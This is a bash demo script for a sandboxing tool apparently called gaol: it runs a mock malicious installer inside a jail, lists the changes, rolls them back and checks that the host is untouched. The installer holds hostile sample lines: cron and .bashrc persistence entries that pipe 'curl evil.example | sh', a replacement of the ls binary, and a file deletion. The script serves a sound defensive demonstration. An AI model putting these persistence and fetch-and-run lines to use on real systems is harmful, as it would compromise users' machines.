#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# demo.sh GAOL: a jail named demo, an installer that does its worst in it, the diff, and one key
# that undoes it. On a terminal it ends in the console program; elsewhere it walks the same road by
# verbs, verifies every effect, and fails when one is not as it should be.
set -u -o pipefail
gaol=$1
jail=demo
step=0
failures=0

say() { printf '\n\033[1m%s\033[0m\n' "$*"; }
plain() { printf '\n%s\n' "$*"; }
[ -t 1 ] || say() { plain "$@"; }

die() {
	printf 'gaol: demo: %s\n' "$*" >&2
	exit 1
}

# Shows a command as the reader would type it, and runs it.
show() {
	printf '  $ gaol'
	printf ' %s' "$@"
	printf '\n'
	"$gaol" "$@"
}

# verify TEXT COMMAND...: says whether the command succeeds.
verify() {
	local what=$1
	shift
	step=$((step + 1))
	if "$@" >/dev/null 2>&1; then
		printf '  ok %d: %s\n' "$step" "$what"
	else
		printf '  NOT ok %d: %s\n' "$step" "$what"
		failures=$((failures + 1))
	fi
}

inside() { "$gaol" exec "$jail" -- sh -c "$1" </dev/null; }

seed() {
	inside 'mkdir -p /root/thesis /etc/cron.d &&
		printf "alias ll=\"ls -l\"\n" > /root/.bashrc &&
		printf "Chapter 1\n\nThree years of work.\n" > /root/thesis/chapter1.txt' || return
	"$gaol" exec "$jail" -- sh -c 'cat > /root/install.sh && chmod 755 /root/install.sh' <<-'EOF'
		#!/bin/sh
		# What an installer from somewhere might do. It only ever runs in a jail.
		pause=${1:-0}
		echo "Installing SuperTool 1.0 ..."; sleep $pause
		echo "* * * * * root curl -s evil.example | sh" > /etc/cron.d/updater; sleep $pause
		echo "curl -s evil.example/steal | sh &" >> /root/.bashrc; sleep $pause
		printf '#!/bin/sh\necho "nothing to see here"\n' > /usr/bin/ls.new
		chmod 755 /usr/bin/ls.new && mv /usr/bin/ls.new /usr/bin/ls; sleep $pause
		rm /root/thesis/chapter1.txt; sleep $pause
		echo "Done. Thank you for choosing SuperTool."
	EOF
}

prepare() {
	say "A jail named $jail: a guest kernel of its own, over a read-only view of this machine."
	"$gaol" rm -f "$jail" >/dev/null 2>&1
	show new "$jail" --note "made by make demo" || die "the jail cannot be made: \`$gaol doctor\` tells why"
	show start "$jail" || die "the jail does not start: \`$gaol doctor\` tells why"
	seed || die "the jail cannot be filled"
	show checkpoint "$jail" -m "clean, before the installer" || die "no checkpoint"
}

on_terminal() {
	prepare
	say "Now an installer that nobody should trust runs in it. Watch the feed; then press"
	printf '    d  see what it changed      z  undo all of it      Z  redo\n'
	printf '    a  go to its console        ?  all keys            Q  leave\n'
	# The installer starts when the reader can see it.
	(
		exec </dev/null >/dev/null 2>&1
		sleep 3
		"$gaol" exec "$jail" -- /root/install.sh 1
	) &
	read -r -t 2 -n 1 || true
	"$gaol" --jail "$jail" --message "an installer is at work: d shows what it did, z undoes it, ? helps"
	say "The jail is still there: \`$gaol\` opens the console again, \`$gaol rm -f $jail\` removes it."
}

host_state() { sha256sum "$(command -v ls)" /etc/passwd; stat -c %Y /etc/cron.d 2>/dev/null; }

without_terminal() {
	local before expected got
	before=$(host_state)
	prepare

	say "An installer that nobody should trust runs in it."
	show exec "$jail" -- /root/install.sh </dev/null
	verify "ls in the jail is replaced" test "$(inside 'ls /')" = "nothing to see here"
	verify "the document in the jail is gone" inside '! [ -e /root/thesis/chapter1.txt ]'

	say "What did it change?"
	expected=$(printf '%s\n' 'A /etc/cron.d/updater' 'D /root/thesis/chapter1.txt' 'M /root/.bashrc' 'M /usr/bin/ls')
	show diff "$jail" --name-status
	got=$("$gaol" diff "$jail" --name-status | sed 's/[[:space:]]\+/ /' | sort)
	verify "the list has exactly these four changes" test "$got" = "$(sort <<<"$expected")"
	show diff "$jail" | sed 's/^/  /'
	verify "this machine is untouched" test "$(host_state)" = "$before"

	say "Undo."
	show rollback "$jail"
	verify "nothing differs from the checkpoint" test -z "$("$gaol" diff "$jail" --name-status)"
	verify "the document is back" inside 'grep -q "Three years" /root/thesis/chapter1.txt'
	verify "ls is ls again" inside 'ls / | grep -q usr'
	verify ".bashrc is clean" inside '! grep -q evil /root/.bashrc'
	verify "no cron entry is left" inside '! [ -e /etc/cron.d/updater ]'

	say "And redo, because nothing is ever lost."
	show redo "$jail"
	verify "the installer's changes are there again" test "$(inside 'ls /')" = "nothing to see here"
	show rollback "$jail"
	verify "and gone again" inside '[ -e /root/thesis/chapter1.txt ]'
	show log "$jail"
	verify "stock git finds nothing wrong with the repository" check_repository
	show stop "$jail"
	verify "the jail is stopped" sh -c "'$gaol' ls | grep -E '^$jail +stopped'"
	verify "this machine is untouched" test "$(host_state)" = "$before"
	echo
	if [ "$failures" != 0 ]; then
		die "$failures of $step effects were not as they should be"
	fi
	say "All $step effects were as they should be. On a terminal \`make demo\` shows the same, live."
}

check_repository() {
	local home=${GAOL_HOME-}
	if [ -z "$home" ]; then
		home=/var/lib/gaol
		[ "$(id -u)" = 0 ] || home=${XDG_DATA_HOME:-$HOME/.local/share}/gaol
	fi
	git -C "$home/jails/$jail/checkpoints.git" fsck --strict --no-dangling
}

if [ -t 0 ] && [ -t 1 ]; then
	on_terminal
else
	without_terminal
fi
